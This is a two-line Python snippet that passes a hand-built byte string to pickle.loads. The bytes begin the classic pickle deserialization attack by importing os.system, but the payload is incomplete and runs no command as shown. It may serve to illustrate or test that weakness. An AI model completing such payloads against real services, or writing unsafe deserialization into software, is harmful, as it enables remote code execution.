import pickle
pickle.loads(b"cos\nsystem\n")
